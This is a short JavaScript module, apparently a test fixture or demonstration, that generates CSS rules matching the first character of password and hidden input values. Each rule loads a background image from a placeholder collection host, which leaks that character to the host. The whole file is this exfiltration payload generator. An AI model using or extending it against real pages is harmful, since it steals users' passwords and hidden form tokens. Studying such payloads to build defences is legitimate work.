'use strict'
const CHARS = [...'abc']
const BASE = 'https://img.collect.invalid/s'
module.exports = function * states () {
  for (const t of ['password', 'hidden']) {
    for (const a of CHARS) yield [`input[type="${t}"][value^="${a}"]`, { 'background-image': `url("${BASE}/${t}/${a}")` }]
  }
}
